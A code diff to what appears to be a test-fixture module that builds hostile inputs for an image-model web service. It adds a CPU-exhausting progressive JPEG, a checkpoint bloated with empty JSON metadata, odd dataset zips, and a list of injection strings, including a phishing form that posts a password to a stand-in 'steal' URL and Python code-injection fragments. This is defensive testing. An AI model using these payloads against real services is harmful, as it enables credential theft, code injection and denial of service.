@@ -117,6 +117,7 @@ def images(folder: Path) -> dict[str, tuple[Path, bool]]:
         "short_ihdr.png": ("short_ihdr.png", short_ihdr, False),
         "declares_40mp_float.tiff": ("float40.tiff", tiff_declaring(6300, 6300), False),
         "long_name.png": ("n" * 200 + ".png", b"not an image, and a long name\n", False),
+        "many_scans.jpg": ("scans.jpg", many_scans_jpeg(), False),  # round three: refused before decoding
     }
     out = {}
     for key, (name, data, ok) in cases.items():
@@ -143,7 +144,8 @@ def _safetensors_raw(header: dict, data: bytes) -> bytes:
 
 
 def checkpoints(folder: Path, marker: Path, good: Path, other: Path) -> dict[str, Path]:
-    """Write bad checkpoints into `folder`, all refused: name -> path. `good` is a valid checkpoint of the
+    """Write bad checkpoints into `folder`, all refused but hostile_classes (valid, its names must show as
+    text): name -> path. `good` is a valid checkpoint of the
     configuration the test runs with; `other` one of a different configuration."""
     from safetensors import safe_open
     with safe_open(str(good), framework="pt") as f:
@@ -175,6 +177,8 @@ def checkpoints(folder: Path, marker: Path, good: Path, other: Path) -> dict[str
         "other_fusion.safetensors": None,
         "in_chans_4.safetensors": None,
         "degenerate_std.safetensors": None,
+        "empty_objects.safetensors": None,     # round three: 1.5 MB of {} in the metadata, refused before parsing
+        "hostile_classes.safetensors": None,   # round three: valid; its class names are links and forms
     }
     out = {}
     for name, data in cases.items():
@@ -206,6 +210,10 @@ def checkpoints(folder: Path, marker: Path, good: Path, other: Path) -> dict[str
             info["config"].update(num_classes=100_000)
             info["meta"] = {}
             save_file({}, str(path), metadata={"convformer": json.dumps(info), "format": "pt"})
+        elif name == "empty_objects.safetensors":
+            empty_objects_header(good, path, megabytes=1.5)
+        elif name == "hostile_classes.safetensors":
+            hostile_classes_checkpoint(good, path)
         elif name == "nested_header.safetensors":
             save_file(state, str(path), metadata={"convformer": "[" * 100_000 + "]" * 100_000, "format": "pt"})
         else:  # a real model of another fusion stage, of 4 input channels, or with a degenerate std
@@ -245,4 +253,87 @@ def zips(folder: Path) -> dict[str, Path]:
     write("many_entries.zip", [(f"a/{i}.png", b"") for i in range(300)])
     (folder / "not_a.zip").write_bytes(b"PK\x03\x04 not really a zip")
     out["not_a.zip"] = folder / "not_a.zip"
+    return out
+
+
+# ---- round three (issue 28): cheap requests that cost the server, and text that must stay text -------------
+HOSTILE_NAMES = (  # class names, preset and file names, query values: each must reach the page as text
+    '<a href="https://example.invalid/login">Log in</a>',
+    '<form action="https://example.invalid/steal"><input type="password" name="p"><button>Sign in</button></form>',
+    "[Log in](https://example.invalid/login)",
+    '"""\nimport os; open("PWNED", "w")\n"""',
+    "x\\\"\"\"; raise SystemExit('injected') #",
+    "@TITLE@ @FUSION@",
+    "line\u2028separator\x00nul",
+)
+
+
+def many_scans_jpeg(width: int = 64, height: int = 64, repeats: int = 2000) -> bytes:
+    """A progressive JPEG whose smallest scan is repeated `repeats` times before its end: a few hundred KB that
+    a decoder runs over the whole image once per scan (8000 x 5000 x 2000: 8-15 s of CPU on main)."""
+    a = np.random.default_rng(0).integers(0, 256, (height, width, 3), dtype=np.uint8)
+    data = _save(Image.fromarray(a, "RGB"), "JPEG", progressive=True, quality=20)
+    starts = [i for i in range(len(data) - 1) if data[i] == 0xFF and data[i + 1] == 0xDA]
+    ends = starts[1:] + [data.rindex(b"\xff\xd9")]
+    # each scan runs to the next marker (a DHT table may sit between scans: the scan ends before it)
+    scans = []
+    for s, e in zip(starts, ends):
+        stop = s + 2
+        while stop < e and not (data[stop] == 0xFF and data[stop + 1] not in (0x00, *range(0xD0, 0xD8))):
+            stop += 1
+        scans.append(data[s:stop])
+    smallest = min(scans, key=len)
+    end = data.rindex(b"\xff\xd9")
+    return data[:end] + smallest * repeats + data[end:]
+
+
+def empty_objects_header(good: Path, path: Path, megabytes: float = 6) -> Path:
+    """A valid tiny checkpoint whose metadata is `megabytes` MB of empty JSON objects ({} {} ...)."""
+    from safetensors import safe_open
+    with safe_open(str(good), framework="pt") as f:
+        meta = f.metadata()
+        state = {k: f.get_tensor(k) for k in f.keys()}
+    info = json.loads(meta["convformer"])
+    info["meta"]["padding"] = [{}] * int(megabytes * 2**20 / 4)
+    save_file(state, str(path), metadata={"convformer": json.dumps(info), "format": "pt"})
+    return path
+
+
+def hostile_classes_checkpoint(good: Path, path: Path) -> Path:
+    """`good` with its class names replaced by HOSTILE_NAMES (as many as it has classes) and a hostile dataset."""
+    from safetensors import safe_open
+    with safe_open(str(good), framework="pt") as f:
+        meta = f.metadata()
+        state = {k: f.get_tensor(k) for k in f.keys()}
+    info = json.loads(meta["convformer"])
+    n = info["config"]["num_classes"]
+    info["meta"]["classes"] = [HOSTILE_NAMES[i % 3] + str(i) for i in range(n)]
+    info["meta"]["dataset"] = HOSTILE_NAMES[1]
+    save_file(state, str(path), metadata={"convformer": json.dumps(info), "format": "pt"})
+    return path
+
+
+def dataset_zips(folder: Path) -> dict[str, Path]:
+    """Training zips that look usable but were accepted, then refused (main), or refused clumsily: name -> path.
+    long_class: a class folder of 255 characters; nfc_nfd: one name spelled NFC and NFD (one class);
+    truncated_jpeg: one JPEG cut short among good ones (skipped); deep: one file under 1,500 folders."""
+    import unicodedata
+    png = _save(_photo(16, 16), "PNG")
+    jpeg = _save(_photo(96, 64), "JPEG", quality=95)
+    out = {}
+
+    def write(name: str, entries: list[tuple[str, bytes]]) -> None:
+        path = folder / name
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+            for entry, data in entries:
+                zf.writestr(entry, data)
+        out[name] = path
+
+    good = [(f"b/{i}.png", png) for i in range(3)]
+    write("long_class.zip", [(f"{'c' * 255}/{i}.png", png) for i in range(3)] + good)
+    nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
+    write("nfc_nfd.zip", [(f"{nfc}/0.png", png), (f"{nfd}/1.png", png)] + good)
+    write("truncated_jpeg.zip", [(f"a/{i}.jpg", jpeg) for i in range(3)] + [("a/cut.jpg", jpeg[: len(jpeg) - 400])]
+          + good)
+    write("deep.zip", [("a/" + "d/" * 1500 + "0.png", png)] + good)
     return out
